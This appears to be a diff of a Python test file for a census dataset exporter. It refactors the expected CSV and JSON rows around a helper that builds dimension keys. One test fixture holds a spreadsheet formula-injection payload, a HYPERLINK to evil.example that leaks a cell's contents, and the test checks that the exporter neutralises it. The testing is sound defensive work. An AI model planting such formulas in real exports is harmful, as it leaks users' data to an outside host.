@@ -22,7 +22,7 @@ from mmicd.dataset_export import (
     neutralise,
     number_text,
 )
-from mmicd.model import MICRODATA_COLUMNS, OBS_COLUMNS, DatasetMeta, Kind, Status
+from mmicd.model import DIMENSIONS, MICRODATA_COLUMNS, OBS_COLUMNS, DatasetMeta, Kind, Status
 
 EVIL_SOURCE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
 
@@ -44,6 +44,12 @@ def known(store):
     return store.add_dataset(meta, known_rows(), actor="ana")
 
 
+def key(**given: str) -> list[str]:
+    """The dimension codes of one of the known rows, in the model's order (totals where not given)."""
+    given = {"measure": "POP", "ref_area": "NPL", "time_period": "2021", **given}
+    return [given.get(d, "_T") for d in DIMENSIONS]
+
+
 def csv_rows(data: bytes) -> list[list[str]]:
     assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 with a byte-order mark, for Excel"
     return list(csv.reader(io.StringIO(data[3:].decode("utf-8"), newline="")))
@@ -62,12 +68,12 @@ def test_csv_holds_exactly_the_stored_rows_with_provenance_and_neutralised_text(
     assert data[3:].split(b"\n")[0].endswith(b"\r"), "CRLF line ends"
     source = "'" + EVIL_SOURCE  # shown as text by a spreadsheet, never run as a formula
     prov = [source, "'-2021 @provisional", str(known.id), "1", "draft"]
-    # sorted by the dimensions; labour_status/migrant_status/counterpart_area are totals
+    # sorted by the dimensions (byte order of the codes); the dimensions not given are totals
     assert rows == [
-        ["POP", "NPL", "2021", "F", "_T", "_T", "_T", "_T", "15018538", "PS", "0", "A", *prov],
-        ["POP", "NPL", "2021", "M", "_T", "_T", "_T", "_T", "", "PS", "0", "M", *prov],
-        ["POP", "NPL", "2021", "_T", "Y0T4", "_T", "_T", "_T", "2465.5", "PS", "3", "E", *prov],
-        ["POP", "NPL", "2021", "_T", "_T", "_T", "_T", "_T", "29192000", "PS", "0", "A", *prov],
+        [*key(sex="F"), "15018538", "PS", "0", "A", *prov],
+        [*key(sex="M"), "", "PS", "0", "M", *prov],
+        [*key(sex="_T", age="Y0T4"), "2465.5", "PS", "3", "E", *prov],
+        [*key(sex="_T"), "29192000", "PS", "0", "A", *prov],
     ]
     # numbers stay numbers: a CSV reader takes them as numbers, the neutralised text as text
     frame = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig")
@@ -84,10 +90,9 @@ def test_json_holds_the_records_and_the_dataset_object(store, known):
     assert meta["edition"] == "-2021 @provisional" and meta["title"] == "Recensement général 2021 — Népal"
     assert meta["columns"] == OBS_COLUMNS and meta["rows"] == 4 and "storage" not in meta
     assert len(doc["records"]) == 4
-    assert doc["records"][1] == {"measure": "POP", "ref_area": "NPL", "time_period": "2021", "sex": "M",
-                                 "age": "_T", "migrant_status": "_T", "counterpart_area": "_T",
-                                 "labour_status": "_T", "value": None, "unit_measure": "PS", "unit_mult": 0,
-                                 "obs_status": "M"}
+    assert doc["records"][1] == {**dict(zip(DIMENSIONS, key(sex="M"), strict=True)), "value": None,
+                                 "unit_measure": "PS", "unit_mult": 0, "obs_status": "M"}
+    assert list(doc["records"][1]) == OBS_COLUMNS
     assert [r["value"] for r in doc["records"]] == [15018538.0, None, 2465.5, 29192000.0]
 
 
